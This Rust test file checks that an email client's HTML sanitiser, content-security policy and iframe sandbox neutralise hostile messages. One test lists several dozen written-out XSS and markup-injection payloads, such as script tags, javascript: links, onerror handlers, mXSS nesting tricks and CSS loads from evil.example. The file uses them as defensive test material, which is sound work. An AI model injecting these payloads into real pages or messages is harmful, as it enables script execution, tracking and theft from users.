//! Nothing that a sender can write runs, loads or leads astray.

use super::{
    super::html::SANITISER,
    witness::{assert_harmless, assert_markup_harmless},
    *,
};
use crate::message::{
    parse,
    tests::corpora::{corpora, files},
};

#[test]
fn dompurifys_payloads_are_harmless() {
    let Some(folder) = corpora() else { return };
    let payloads = std::fs::read(folder.join("html/dompurify-payloads.json")).unwrap();
    let payloads: Vec<serde_json::Value> = serde_json::from_slice(&payloads).unwrap();
    assert!(payloads.len() > 200, "{}", payloads.len());
    for payload in payloads {
        let payload = payload["payload"].as_str().unwrap();
        assert_harmless(payload);
        // With remote images, nothing but such images is more.
        for tag in witness::tags(&shown_with(payload, Images::Shown).document) {
            for attribute in &tag.attrs {
                let is_image = &*tag.name == "img" && &*attribute.name.local == "src";
                let remote = attribute.value.starts_with("https://");
                assert!(!attribute.name.local.starts_with("on"), "{payload}");
                assert!(
                    !remote || is_image || ["href", "title"].contains(&&*attribute.name.local),
                    "{payload}"
                );
            }
        }
        // The sanitiser holds alone, too.
        assert_markup_harmless(payload, &SANITISER.clean(payload).to_string(), "/");
        // As a sender would hide it in a letter.
        assert_harmless(&format!(
            "<html><body><table><tr><td><b>Hi {payload}</td></tr></table></body></html>"
        ));
        assert_harmless(&format!("<!--{payload}--><div title=\"{payload}\" style=\"{payload}\">{payload}"));
    }
}

#[test]
fn real_spam_is_harmless() {
    let Some(files) = files("spamassassin.tar.zst", "") else { return };
    let mut bodies = 0;
    for raw in files.values() {
        let message = parse(raw);
        if let Some(html) = &message.html {
            assert_harmless(html);
            bodies += 1;
        }
        let page = text(
            message.text.as_deref().unwrap_or_default(),
            &TextOptions { quoted_lines: &|n| n.to_string(), diff: "diff" },
        );
        for tag in witness::tags(&page.into_string()) {
            assert!(
                ["p", "a", "details", "summary", "blockquote", "div", "pre", "ins", "del", "b"]
                    .contains(&&*tag.name),
                "{}",
                tag.name
            );
            let links = tag.attrs.iter().filter(|attribute| &*attribute.name.local == "href");
            for link in links {
                let scheme = link.value.split(':').next().unwrap_or_default().to_ascii_lowercase();
                assert!(["http", "https", "mailto"].contains(&scheme.as_str()), "{}", link.value);
            }
        }
    }
    assert!(bodies > 250, "{bodies}");
}

#[test]
fn hostile_letters_are_harmless() {
    for source in [
        "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=https://evil.example/>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<body background=https://evil.example/x onload=alert(1)><table background=//evil.example/y><td background=z>",
        "<img src=x onerror=alert(1)><img srcset=\"https://evil.example/x 1x\"><img src=//evil.example/x>",
        "<img src=\"/\\evil.example/x\"><img src=\"\\\\evil.example\\x\"><img src=/logout><img src=relative.png>",
        "<picture><source srcset=https://evil.example/x><img src=cid:a></picture>",
        "<video poster=https://evil.example/x src=https://evil.example/y autoplay></video><audio src=//evil.example>",
        "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=y>",
        "<a href=javascript:alert(1)>x</a><a href=\"java&#10;script:alert(1)\">x</a><a href=&#106;avascript&colon;alert(1)>x",
        "<a href=\" \u{1}javascript:alert(1)\">x</a><a href=vbscript:x>y</a><a href=data:text/html,<script>z</script>>z</a>",
        "<a href=//evil.example>x</a><a href=/admin>x</a><a href=#x name=x id=x>y</a><area href=javascript:alert(1)>",
        "<a href=https://x.example target=_top rel=opener download ping=https://evil.example>x</a>",
        "<div style=\"background:url(https://evil.example/x)\">a</div><p style=\"background-image:u\\72l(//evil.example)\">",
        "<div style=\"background:&#117;rl(https://evil.example/x)\">a</div><p style='background:image-set(\"//evil.example\" 1x)'>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">over everything</div>",
        "<div style=\"width:expression(alert(1));behavior:url(x);-moz-binding:url(y)\">a</div>",
        "<img src=data:image/svg+xml;base64,PHN2Zz4=><img src=data:text/html,x><img src='data:image/png,<script>'>",
        "<img src=cid:x\"onerror=alert(1)><img src=\"cid:a&quot; onerror=&quot;alert(1)\"><img src=CID:%22%3E%3Cscript%3E>",
        "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><image href=//evil.example/x></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea></textarea><img src=x onerror=alert(1)><title></title><img src=x onerror=alert(1)>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><plaintext><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template><select><img src=x onerror=alert(1)></select>",
        "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
        "<img src=\"x` `<script>alert(1)</script>\"` `><img/src=x/onerror=alert(1)><img\u{c}src=x\u{c}onerror=alert(1)>",
        "<<script>alert(1)//<</script><scr<script>ipt>alert(1)</scr</script>ipt><IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p><font color='\"><script>' face=\"' onx=1\">x</font>",
        "<span class=ph style=x id=y data-x=z contenteditable autofocus tabindex=1 accesskey=x>x</span>",
        "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
        "<table><caption><img src=x onerror=alert(1)></caption><colgroup><col style='background:url(x)'><tr><td></table>",
        "<html xmlns:xss><xss:script>alert(1)</xss:script><?xml-stylesheet href=x?><o:p style='mso-x:y'>Word</o:p>",
    ] {
        assert_harmless(source);
        // Cut anywhere, as a broken transfer would.
        for end in (1..source.len()).filter(|end| source.is_char_boundary(*end)) {
            assert_harmless(&source[..end]);
        }
    }
}

#[test]
fn the_documents_own_parts_cannot_be_broken_out_of() {
    let document = shown("x").document;
    assert!(document.contains("<title>A &quot;subject&quot; &lt;/title&gt;</title>"), "{document}");
    let hostile = html(
        "x<img src=//evil.example/&lt;script>",
        &HtmlOptions {
            lang: "\"><script>",
            title: "",
            cid: &|_| Some("//evil.example/x".to_owned()),
            blocked_image: &|host| format!("<script>{host}</script>"),
            leads_to: &|host| format!("leads to {host}"),
            images: Images::Blocked,
        },
    );
    assert!(!hostile.document.contains("<script"), "{}", hostile.document);
    let astray = HtmlOptions {
        lang: "en",
        title: "",
        cid: &|_| Some("//evil.example/x".to_owned()),
        blocked_image: &|_| String::new(),
        leads_to: &|host| format!("leads to {host}"),
        images: Images::Blocked,
    };
    assert!(!html("<img src=cid:a>", &astray).document.contains("evil"));
}

#[test]
fn the_policy_and_the_frame_never_allow_scripts() {
    for (own, images) in [(false, Images::Blocked), (true, Images::Blocked), (true, Images::Shown)] {
        let policy = body_policy(own, images);
        assert!(policy.contains("default-src 'none'"));
        assert!(policy.ends_with(IFRAME_SANDBOX), "the frame and the response say the same");
        assert_eq!(policy.contains("https:"), images == Images::Shown, "{policy}");
        assert_eq!(policy.contains("data: 'self'"), own, "{policy}");
        for tokens in [policy.as_str(), IFRAME_SANDBOX] {
            assert!(
                !tokens.contains("allow-scripts")
                    && !tokens.contains("allow-forms")
                    && !tokens.contains("unsafe-eval")
            );
        }
    }
}
